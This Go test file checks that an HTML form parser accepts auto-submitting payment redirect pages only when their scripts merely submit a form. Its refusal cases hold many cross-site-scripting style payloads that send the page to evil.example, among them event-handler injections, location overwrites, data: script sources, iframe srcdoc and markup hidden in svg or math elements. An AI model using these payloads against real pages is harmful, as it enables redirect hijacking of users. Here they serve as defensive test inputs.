package htmlform

import (
	"net/url"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const scriptForm = `<form id="f" name="f" method="post" action="https://nsdl.example/pan"><input type="hidden" name="a" value="1">` +
	`<noscript><input type="submit" value="Continue"></noscript></form>`

// TestParseRefusesScriptsOutsideTheAllowList: a page is usable only when
// its scripts do nothing but submit a form of the page; an event handler
// other than the body's onload, a <script src> or any other statement makes
// it unusable, whatever trick it plays.
func TestParseRefusesScriptsOutsideTheAllowList(t *testing.T) {
	for name, tc := range map[string]struct{ page, why string }{
		"form onsubmit sets the action": {`<form method="post" action="https://nsdl.example/pan" onsubmit="this.action='https://evil.example/x'">` +
			`<input type="hidden" name="a" value="1"></form><script>document.forms[0].requestSubmit()</script>`, "onsubmit on <form>"},
		"submit button onclick sets the location": {`<form method="post" action="https://nsdl.example/pan"><input type="hidden" name="a" value="1">` +
			`<input type=submit onclick="location='https://evil.example'"></form>`, "onclick on <input>"},
		"img onerror":   {scriptForm + `<img src=x onerror="location='https://evil.example'">`, "onerror on <img>"},
		"img onload":    {scriptForm + `<img src=x ONLOAD="location='https://evil.example'">`, "onload on <img>"},
		"input onfocus": {`<form action="https://nsdl.example/pan"><input name="a" value="1" autofocus onfocus="top.location='https://evil.example'"></form>`, "onfocus on <input>"},
		"body onpageshow": {`<body onload="document.forms[0].submit()" onpageshow="location='https://evil.example'">` + scriptForm,
			"onpageshow on <body>"},
		"frameset onload": {`<frameset onload="location='https://evil.example'"></frameset>` + scriptForm, "onload on <frameset>"},
		"svg onload":      {scriptForm + `<svg onload="location='https://evil.example'"></svg>`, "onload on <svg>"},
		"Object.assign sets the action": {scriptForm +
			`<script>Object.assign(document.f,{action:'https://evil.example/x'});document.f.submit()</script>`, "`Object`"},
		"self by index":       {scriptForm + `<script>self['location']='https://evil.example';</script>`, "`self`"},
		"window by index":     {scriptForm + `<script>window['location']='https://evil.example'</script>`, "`window`"},
		"top by index":        {scriptForm + `<script>top["location"]='https://evil.example'</script>`, "`top`"},
		"globalThis.location": {scriptForm + `<script>globalThis.location='https://evil.example'</script>`, "`globalThis`"},
		"document by index":   {scriptForm + `<script>document['location']='https://evil.example'</script>`, "`[`"},
		"location.href by index": {scriptForm + `<script>location ['href']='https://evil.example'; document.f.submit()</script>`,
			"`location`"},
		"a script clicks a link": {scriptForm + `<a id=go href="https://evil.example/">x</a>` +
			`<script>document.getElementById('go').click()</script>`, "`click`"},
		"data script src": {scriptForm + `<script src="data:text/javascript,location='https://evil.example'"></script>`, "<script> with src"},
		"external script src": {scriptForm + `<script src="https://cdn.example/jquery.js"></script>` +
			`<script>document.f.submit()</script>`, "<script> with src"},
		"empty script src": {scriptForm + `<script src="">document.f.submit()</script>`, "<script> with src"},
		"svg script href":  {scriptForm + `<svg><script href="data:,location='https://evil.example'"></script></svg>`, "<script> with href"},
		"svg script xlink:href": {scriptForm + `<svg><script xlink:href="data:,location='https://evil.example'"></script></svg>`,
			"<script> with xlink:href"},
		"a variable named location": {scriptForm + `<script>var location = document.f; location.submit()</script>`, "`location`"},
		"submit with a submitter":   {scriptForm + `<script>document.f.requestSubmit(document.getElementById('b'))</script>`, "`document`"},
		"a string with an escape":   {scriptForm + `<script>document.getElementById('\x66').submit()</script>`, "escape"},
		"two statements on a line":  {scriptForm + `<script>document.f.submit() document.f.submit()</script>`, "`document`"},
		"an undeclared variable":    {scriptForm + `<script>g.submit()</script>`, "`g`"},
		"a timer given a string":    {scriptForm + `<script>setTimeout("location='https://evil.example'", 1)</script>`, "a string"},
		"a load listener for another event": {scriptForm +
			`<script>window.addEventListener('click', function(){ document.f.submit() })</script>`, "a string"},
		"an arrow body that navigates": {scriptForm + `<script>window.onload = () => location.assign('https://evil.example')</script>`,
			"`location`"},
		"a comment hides nothing after -->": {scriptForm + "<script>document.f.submit(); x --> 1\nlocation='https://evil.example'</script>",
			"`-`"},
		"a script that only reads the action": {scriptForm +
			`<script>if (document.forms[0].action == "") { alert("x") } document.forms[0].submit()</script>`, "`==`"},
		"an iframe whose srcdoc navigates the page": {scriptForm +
			`<iframe srcdoc="<script>top.location='https://evil.example'</script>"></iframe>`, "embeds another document (<iframe>)"},
		"an iframe with a javascript: src": {scriptForm + `<iframe src="javascript:parent.location='https://evil.example'"></iframe>`,
			"(<iframe>)"},
		"an object": {scriptForm + `<object data="https://evil.example/x.html"></object>`, "(<object>)"},
		"a handler inside <style> in <svg>, which a browser parses as markup": {scriptForm +
			`<svg><style><img src=x onerror="location='https://evil.example'"></style></svg>`, "onerror on <img>"},
		"a handler inside <noscript> in <math>": {scriptForm +
			`<math><noscript><img src=x onerror="location='https://evil.example'"></noscript></math>`, "onerror on <img>"},
		"a second <body> adds an onload handler that navigates": {`<body onload="document.forms[0].submit()">` + scriptForm +
			`<body onpageshow="location='https://evil.example'"></body>`, "onpageshow on <body>"},
		"a field with dirname": {`<form method="post" action="https://nsdl.example/pan"><input type="hidden" name="a" value="1">` +
			`<input name="q" value="a" dirname="orderid"></form><script>document.forms[0].submit()</script>`, "dirname"},
		"a textarea with dirname": {`<form method="post" action="https://nsdl.example/pan"><textarea name="q" dirname="q.dir">a</textarea>` +
			`</form><script>document.forms[0].submit()</script>`, "dirname"},
		"a script that sets the fragment": {scriptForm + `<script>location.hash = "#go"; document.forms[0].submit()</script>`, "`location`"},
	} {
		t.Run(name, func(t *testing.T) {
			f, refusal := Parse([]byte(tc.page), pfMustURL(t, pfAPI), pfAPIBases...)
			require.NotNil(t, refusal, "accepted %+v", f)
			assert.Nil(t, f)
			assert.Contains(t, refusal.Reason, "HTML form refused")
			assert.Contains(t, refusal.Reason, tc.why)
			assert.NotContains(t, refusal.Reason, "evil.example", "the page's text is not quoted")
		})
	}
}

// TestParseAcceptsScriptsThatOnlySubmit: the shapes of script a page that
// submits its form on load is written in stay usable.
func TestParseAcceptsScriptsThatOnlySubmit(t *testing.T) {
	want := &Form{Action: "https://nsdl.example/pan", Method: "POST", Enctype: URLEncoded, Fields: url.Values{"a": {"1"}}}
	other := `<form id="lang" name="lang" action="https://x.example/lang"><input name="l" value="en"></form>`
	for name, script := range map[string]string{
		"forms by index":                `document.forms[1].submit();`,
		"by id":                         `document.getElementById('f').submit()`,
		"by name":                       `document.f.submit()`,
		"forms by name":                 `document.forms['f'].requestSubmit()`,
		"forms by name, dotted":         `document.forms.f.submit()`,
		"querySelector by id":           `document.querySelector("#f").submit()`,
		"tag name":                      `document.getElementsByTagName('form')[1].submit()`,
		"a variable":                    "var f = document.getElementById('f');\nf.submit();",
		"a const without semicolons":    "const frm = document.forms['f']\nfrm.submit()",
		"window.onload":                 `window.onload = function () { document.getElementById("f").submit(); };`,
		"window.onload, named function": `window.onload = function go() { var x = document.f; x.submit() }`,
		"load listener":                 `window.addEventListener('load', function(){ document.f.submit() })`,
		"DOMContentLoaded arrow":        `document.addEventListener('DOMContentLoaded', () => { document.f.submit(); }, false)`,
		"setTimeout":                    `setTimeout(function(){document.f.submit()}, 10)`,
		"window.setTimeout arrow":       `window.setTimeout(() => document.f.submit(), 500);`,
		"nested wrappers":               `window.onload = function(e) { setTimeout(function () { document.forms[1].submit(); }, 0); };`,
		"an immediate function":         `(function () { document.f.submit() })();`,
		"the SDK's own page":            `HTMLFormElement.prototype.submit.call(document.getElementById("f"));`,
		"comments of every kind":        "<!--\n// submit\n/* the form */ document.f.submit(); // now\n-->\n",
		"empty":                         "  \n ",
	} {
		t.Run(name, func(t *testing.T) {
			page := other + scriptForm + `<script type="text/javascript">` + script + `</script>`
			if name == "empty" {
				page = scriptForm + `<script>` + script + `</script>`
			}
			f, refusal := Parse([]byte(page), pfMustURL(t, pfAPI), pfAPIBases...)
			require.Nil(t, refusal)
			assert.Equal(t, want, f)
		})
	}
	// Handlers inside <template> or <noscript> never run: the page stays usable.
	for _, page := range []string{scriptForm + `<template><img src=x onerror="location='https://x.example'"></template>`,
		scriptForm + `<noscript><img src=x onerror="location='https://x.example'"></noscript>`} {
		f, refusal := Parse([]byte(page), pfMustURL(t, pfAPI), pfAPIBases...)
		require.Nil(t, refusal, page)
		assert.Equal(t, want, f)
	}
	for name, onload := range map[string]string{
		"body onload":              `document.forms[1].submit()`,
		"body onload, javascript:": `javascript:document.f.submit();`,
	} {
		t.Run(name, func(t *testing.T) {
			page := `<body onload="` + onload + `">` + other + scriptForm + `</body>`
			f, refusal := Parse([]byte(page), pfMustURL(t, pfAPI), pfAPIBases...)
			require.Nil(t, refusal)
			assert.Equal(t, want, f)
		})
	}
}

// TestParsePicksTheFormAScriptSubmitsAsABrowserFindsIt: getElementById
// finds the first element of the id, a form's name is not its id for
// document.x, and a variable names the form it was last given.
func TestParsePicksTheFormAScriptSubmitsAsABrowserFindsIt(t *testing.T) {
	const a = `<form id="a" name="na" action="https://a.example/"><input name="a" value="1"></form>`
	const b = `<form id="b" name="nb" action="https://b.example/"><input name="b" value="1"></form>`
	for script, want := range map[string]string{
		`document.getElementById('b').submit()`:                            "https://b.example/",
		`document.nb.submit()`:                                             "https://b.example/",
		`document.forms['b'].submit()`:                                     "https://b.example/",
		`document.forms['na'].submit()`:                                    "https://a.example/",
		"var f = document.forms[0]; f = 1; f.submit()":                     "",
		"var f = document.forms[0]\nvar f = document.forms[1]\nf.submit()": "https://b.example/",
		`document.b.submit()`:                                              "",
		`document.getElementById('x').submit()`:                            "",
	} {
		f, refusal := Parse([]byte(`<p id="x"></p>`+a+b+`<script>`+script+`</script>`), pfMustURL(t, pfAPI), pfAPIBases...)
		if want == "" {
			assert.NotNil(t, refusal, script)
			continue
		}
		require.Nil(t, refusal, script)
		assert.Equal(t, want, f.Action, script)
	}
	// An empty id or name finds nothing, though a form has an empty one.
	for _, script := range []string{`document.getElementById('').submit()`, `document.forms[''].submit()`} {
		_, refusal := Parse([]byte(`<form id="" action="https://a.example/"><input name="a" value="1"></form>`+b+`<script>`+script+`</script>`),
			pfMustURL(t, pfAPI))
		require.NotNil(t, refusal, script)
		assert.Contains(t, refusal.Reason, "none of them submitted", script)
	}
	// The first element of an id is not the form: nothing is submitted.
	_, refusal := Parse([]byte(`<div id="b"></div>`+a+b+`<script>document.getElementById('b').submit()</script>`), pfMustURL(t, pfAPI))
	require.NotNil(t, refusal)
	assert.Contains(t, refusal.Reason, "none of them submitted")
}
